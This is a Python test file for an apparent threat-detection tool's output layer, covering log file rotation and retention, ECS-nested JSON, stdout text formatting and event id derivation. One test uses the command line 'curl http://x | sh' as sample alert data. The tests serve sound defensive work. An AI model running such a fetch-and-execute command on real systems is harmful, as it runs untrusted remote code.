"""File output (rotation, retention), stdout formats, and event ids for events without one."""

from __future__ import annotations

import io
import json
from pathlib import Path

from tests.outputs.conftest import make_event
from threatseer.common import ecs
from threatseer.hub.outputs import OutputConfig, Outputs
from threatseer.hub.outputs.events import EventIds, subject, to_text


def test_file_rotates_by_size_and_keeps_n(tmp_path: Path) -> None:
    path = tmp_path / "out" / "events.jsonl"
    outs = Outputs([OutputConfig(type="file", batch_size=7,
                                 options={"path": str(path), "max_bytes": 20_000, "keep": 3})])
    outs.start()
    for i in range(500):
        outs.emit(make_event(i))
    outs.close(10)
    files = sorted(p.name for p in path.parent.iterdir())
    assert files == ["events.jsonl", "events.jsonl.1", "events.jsonl.2", "events.jsonl.3"]
    for p in path.parent.iterdir():
        assert p.stat().st_size <= 20_000
    # The newest events are in the live file, older ones in .1, .2, .3; each line is whole.
    ids = []
    for name in ["events.jsonl.3", "events.jsonl.2", "events.jsonl.1", "events.jsonl"]:
        ids += [json.loads(line)["event"]["id"] for line in (path.parent / name).open()]
    assert ids == [f"ev-{i}" for i in range(500 - len(ids), 500)]
    assert len(ids) < 500  # the oldest files were deleted (retention)
    assert outs.status()[0]["sent"] == 500


def test_file_lines_are_nested_ecs(tmp_path: Path) -> None:
    path = tmp_path / "e.jsonl"
    outs = Outputs([OutputConfig(type="file", options={"path": str(path)})])
    outs.start()
    event = make_event(3)
    outs.emit(event)
    outs.close(5)
    doc = json.loads(path.read_text())
    assert doc == json.loads(json.dumps(ecs.nest(event)))
    assert ecs.flatten(doc)["destination.port"] == 443


def test_stdout_json_and_text() -> None:
    js, txt = io.StringIO(), io.StringIO()
    outs = Outputs([OutputConfig(type="stdout", name="js"),
                    OutputConfig(type="stdout", name="txt", options={"format": "text"})],
                   js={"stream": js}, txt={"stream": txt})
    outs.start()
    outs.emit(make_event(10, **{"process.command_line": "curl http://x | sh"}))
    outs.close(5)
    assert json.loads(js.getvalue())["event"]["kind"] == "alert"
    line = txt.getvalue().rstrip("\n")
    assert "\n" not in line
    assert line.startswith("2026-11-28T02:00:00.000010Z score=10 alert exec host1 pid=1010 ")
    assert "curl http://x | sh" in line and line.endswith("rules=r1")
    assert to_text({}) == "- score=0 event - - pid=-"


def test_event_ids_are_derived_deterministically() -> None:
    ids = EventIds()
    a = {"agent.id": "s1", "threatseer.batch.seq": 7, "event.action": "exec"}
    b = dict(a, **{"event.action": "exit"})
    c = {"agent.id": "s1", "threatseer.batch.seq": 8}
    assert [ids.ensure(a), ids.ensure(b), ids.ensure(c)] == ["s1-7-0", "s1-7-1", "s1-8-0"]
    assert a["event.id"] == "s1-7-0"
    assert ids.ensure({"event.id": "given"}) == "given"
    # No sensor id / batch: a content hash, equal for equal events.
    x, y = {"process.pid": 1}, {"process.pid": 1}
    assert ids.ensure(x) == ids.ensure(y) and x["event.id"].startswith("sha1-")


def test_subject_is_image_else_host_and_executable() -> None:
    assert subject({"container.image.name": "nginx:1.25", "host.name": "h"}) == "nginx:1.25"
    assert subject({"host.name": "h", "process.executable": "/bin/sh"}) == "h:/bin/sh"
